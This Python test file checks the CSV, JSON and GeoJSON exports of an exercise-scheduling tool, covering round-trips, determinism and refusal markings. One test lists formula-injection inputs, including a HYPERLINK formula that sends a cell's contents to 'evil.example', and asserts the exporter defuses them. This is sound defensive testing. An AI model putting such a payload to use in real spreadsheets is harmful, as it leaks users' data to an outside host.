"""CSV, the schedule file and GeoJSON: safe, whole, and read back."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from exsched.checking.judge import fingerprint, judge
from exsched.domain.outcome import Outcome
from exsched.exporting import FORMATS, Selection
from exsched.exporting.selection import UnknownName
from exsched.intake import read_schedule
from exsched.rulekit.verdict import Answer
from tests.exporting.sample import answer, programme, refused


def rows(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def document(found: Answer, selection: Selection | None = None) -> dict[str, Any]:
    """The schedule file as data."""
    read: dict[str, Any] = json.loads(FORMATS["json"].write(found, selection or Selection()))
    return read


@pytest.mark.parametrize("name", ["csv", "json"])
def test_schedule_is_read_back(name: str, tmp_path: Path) -> None:
    """What we write, we read: the same lines, and no complaint."""
    found = answer()
    file = tmp_path / f"schedule{FORMATS[name].suffix}"
    file.write_bytes(FORMATS[name].write(found))
    read, diagnostics = read_schedule(file, found.problem)
    assert read is not None
    assert (fingerprint(read), diagnostics) == (fingerprint(found.schedule), ())


@pytest.mark.parametrize("name", sorted(set(FORMATS) - {"png"}))
def test_format_gives_the_same_bytes_twice(name: str) -> None:
    """No clock, no chance."""
    assert FORMATS[name].write(answer()) == FORMATS[name].write(answer())


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_format_refuses_a_name_it_does_not_know(name: str) -> None:
    """A typing error in a selection is no empty file."""
    with pytest.raises(UnknownName) as refused:
        FORMATS[name].write(answer(), Selection(nation="ARW"))
    assert str(refused.value) == "the programme has no nation 'ARW'\nhint: did you mean ARV?"


def test_csv_row_reads_like_this() -> None:
    """One whole row."""
    row = next(row for row in rows(FORMATS["csv"].write(answer())) if row["exercise"] == "cold-shield-27")
    assert row == {
        "exercise": "cold-shield-27",
        "startex": "2027-03-03",
        "endex": "2027-03-21",
        "sites": "air=kaldbay;land=ostfell;port=narvik-roads",
        "participants": "ARV;BMK;ESK;FYR;GOT;HAV=observer",
        "forces": "arctic=brigade-north;armour=armoured-bde;ships=frigates-arv*2;ships=frigates-bmk*2",
        "form": "",
        "title": "COLD SHIELD 27",
        "held": "true",
        "kind": "LIVEX",
        "domains": "land;maritime;air",
        "state": "requested",
        "days": "19",
        "footprint_start": "2027-02-21",
        "footprint_end": "2027-03-28",
        "hosts": "ARV",
        "strength": "11500",
        "draws": "awacs*1;tankers*2",
        "worth": "100",
        "acts": "2026-11-03 manoeuvre-notice to host (notification, open)",
        "verdict": "allowed as far as can be decided",
        "input_sha256": "5d" * 32,
    }


def test_tables_of_a_refused_schedule_say_so_in_every_title(tmp_path: Path) -> None:
    """Each row and feature says it alone, and the table is still read back as it was."""
    found = refused()
    titles = {row["title"][:9] for row in rows(FORMATS["csv"].write(found))}
    collection = json.loads(FORMATS["geojson"].write(found))
    users = [user for feature in collection["features"] for user in feature["properties"]["exercises"]]
    assert titles | {user["title"][:9] for user in users} == {"REFUSED: "}
    assert {feature["properties"]["verdict"] for feature in collection["features"]} == {"refused"}
    assert collection["name"] == "REFUSED: Northern exercise programme 2027"
    file = tmp_path / "schedule.csv"
    file.write_bytes(FORMATS["csv"].write(found))
    read, diagnostics = read_schedule(file, found.problem)
    assert read is not None
    assert (fingerprint(read), diagnostics) == (fingerprint(found.schedule), ())


def test_csv_names_what_is_not_held() -> None:
    """A dropped exercise is a row without dates."""
    row = next(row for row in rows(FORMATS["csv"].write(answer())) if row["exercise"] == "marsh-wolf-27")
    assert (row["held"], row["startex"], row["worth"]) == ("false", "", "15")


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r=1", "'=1"),
        ("  =1", "'=1"),
        ('COLD, "SHIELD"; 27', 'COLD, "SHIELD"; 27'),
        ("تمرین", "تمرین"),
    ],
)
def test_csv_cell_is_no_formula(title: str, cell: str) -> None:
    """A spreadsheet runs nothing that a planner wrote (bad input text-11)."""
    facts = programme()
    line = facts.exercises["air-ring-27"].model_copy(update={"title": title})
    found = answer(facts.model_copy(update={"exercises": facts.exercises | {"air-ring-27": line}}))
    shown = {row["exercise"]: row["title"] for row in rows(FORMATS["csv"].write(found))}
    assert shown["air-ring-27"] == cell


def test_schedule_file_derives_what_follows() -> None:
    """Footprints, roles, draws, planning events and dated acts stand under `derived`."""
    line = next(line for line in document(answer())["lines"] if line["exercise"] == "iron-gate-27")
    assert line == {
        "exercise": "iron-gate-27",
        "held": True,
        "startex": "2027-09-13",
        "endex": "2027-09-28",
        "sites": {"main": "grau", "second": "fort-cal"},
        "participants": dict.fromkeys(["BMK", "CLD", "FYR", "GOT", "HAV"], "full"),
        "forces": {
            "armour": {"armoured-bde": 1},
            "fighters": {"fighters-bmk": 2},
            "marines": {"marines": 1},
        },
        "derived": {
            "title": "IRON GATE 27",
            "footprint": "2027-09-05/2027-10-04",
            "days": 16,
            "hosts": ["BMK", "CLD"],
            "roles": dict.fromkeys(["BMK", "CLD", "FYR", "GOT", "HAV"], "full"),
            "forces": [
                _committed("armour", "armoured-bde", "BMK", 1),
                _committed("fighters", "fighters-bmk", "BMK", 2),
                _committed("marines", "marines", "FYR", 1),
            ],
            "draws": {
                "awacs": {"units": 1, "dates": "2027-09-13/2027-09-28"},
                "tankers": {"units": 2, "dates": "2027-09-13/2027-09-28"},
            },
            "planning": [
                {"event": "CDC", "start": "2026-07-20", "end": "2026-07-24"},
                {"event": "IPC", "start": "2026-12-07", "end": "2026-12-11"},
                {"event": "MPC", "start": "2027-03-29", "end": "2027-04-02"},
                {"event": "FPC", "start": "2027-06-21", "end": "2027-06-25"},
                {"event": "MEL/MIL", "start": "2027-07-19", "end": "2027-07-23"},
            ],
            "acts": [
                {
                    "duty": "notification",
                    "act": "manoeuvre-notice",
                    "to": "host",
                    "due": "2027-05-16",
                    "standing": "on record",
                    "on_record": "2026-10-12",
                    "paragraph": "par. 69",
                }
            ],
        },
    }


def _committed(need: str, force: str, nation: str, elements: int) -> dict[str, Any]:
    return {
        "need": need,
        "force": force,
        "nation": nation,
        "elements": elements,
        "footprint": "2027-09-05/2027-10-04",
        "travel_known": True,
    }


def test_schedule_file_tells_status_evidence_and_bounds() -> None:
    """The honest answer travels with the schedule."""
    told = document(answer())
    assert {key: told["outcome"][key] for key in ("status", "evidence", "within_percent")} == {
        "status": "within",
        "evidence": "E2",
        "within_percent": 4.7,
    }
    assert [(t["tier"], t["value"], t["bound"], t["proved"]) for t in told["outcome"]["tiers"]] == [
        (1, 15, 15, True),
        (2, 489, 466, False),
    ]
    assert told["made_with"]["seed"] == 7
    assert told["made_with"]["parameters"] == {"time_limit": 60, "workers": 2}


def test_schedule_file_tells_every_rule_broken() -> None:
    """Each with its sentence, amount, cost and place, dearest first."""
    verdict = document(answer())["verdict"]
    assert [(b["rule"], b["amount"], b["unit"], b["cost"], b["place"]) for b in verdict["broken"]] == [
        ("venue_closure", 10, "day", 250, "programme.yaml:212:5"),
        ("precedence", 5, "day", 200, "programme.yaml:212:5"),
        ("shared_asset_pool", 1, "unit", 30, "programme.yaml:212:5"),
    ]
    assert len(verdict["cannot_be_decided"]) == 3
    assert verdict["verdict"] == "allowed as far as can be decided"


def test_schedule_file_of_a_hand_typed_schedule_claims_nothing() -> None:
    """No solver, no outcome."""
    told = document(answer(solved=False))
    assert (told["outcome"], told["made_with"]["seed"]) == (None, None)


def test_schedule_file_of_a_selection_says_so() -> None:
    """An extract is not taken for the whole."""
    told = document(answer(), Selection(force="airlift"))
    assert told["made_with"]["only"] == {"force": "airlift"}
    assert told["made_with"]["extract"] == (
        "only force airlift: 3 exercises; not the whole schedule, so not for verify;"
        " outcome and verdict are those of the whole programme"
    )
    assert [line["exercise"] for line in told["lines"]] == ["air-ring-27", "grey-heath-27", "winter-lift-27"]


def test_schedule_file_keeps_the_outcome_readable() -> None:
    """Each tier of the file is a tier again."""
    found = answer()
    assert found.outcome is not None
    tiers = [
        {k: t[k] for k in ("goals", "value", "bound", "proved")} for t in document(found)["outcome"]["tiers"]
    ]
    read = Outcome.model_validate({"status": "within", "evidence": "E2", "tiers": tiers})
    assert read.tiers == found.outcome.tiers


def test_geojson_shows_venues_in_use() -> None:
    """A point for each venue, longitude first, with its exercises and their dates."""
    collection = json.loads(FORMATS["geojson"].write(answer()))
    features = {feature["id"]: feature for feature in collection["features"]}
    assert features["fort-cal"]["geometry"] == {"type": "Point", "coordinates": [24.6, 57.1]}
    assert [
        (e["exercise"], e["site"], e["startex"], e["endex"])
        for e in features["fort-cal"]["properties"]["exercises"]
    ] == [
        ("calder-storm-27", "main", "2027-05-19", "2027-06-02"),
        ("iron-gate-27", "second", "2027-09-13", "2027-09-28"),
    ]
    assert sorted(features) == sorted(programme().venues)
    assert collection["certificate"] == answer().verdict.certificate()


def test_geojson_venue_without_position_has_no_geometry() -> None:
    """A missing position is said, not guessed."""
    facts = programme()
    venue = facts.venues["grau"].model_copy(update={"at": None})
    found = answer(facts.model_copy(update={"venues": facts.venues | {"grau": venue}}))
    features = {f["id"]: f["geometry"] for f in json.loads(FORMATS["geojson"].write(found))["features"]}
    assert features["grau"] is None


@pytest.mark.parametrize(
    ("selection", "exercises"),
    [
        (Selection(nation="DOR"), ["grey-map-27", "locked-net-27", "baltic-sweep-27", "deep-keel-27"]),
        (Selection(venue="eskmoor"), ["esk-frost-27"]),
        (Selection(force="armoured-bde"), ["cold-shield-27", "calder-storm-27", "iron-gate-27"]),
        (Selection(nation="FYR", venue="grau"), ["iron-gate-27"]),
        (Selection(nation="HAV", force="frigates-arv"), ["cold-shield-27"]),
    ],
)
def test_selection_takes_what_concerns_it(selection: Selection, exercises: list[str]) -> None:
    """Taking part or hosting, committed, used; all conditions together."""
    assert [held.id for held in selection.held(answer())] == exercises


def test_sample_is_judged_as_expected() -> None:
    """The sample keeps its hard rules: what the other tests show rests on that."""
    found = answer()
    again = judge(found.problem, found.schedule)
    assert ([b.violation.sentence for b in again.hard], again.word) == (
        [],
        "allowed as far as can be decided",
    )
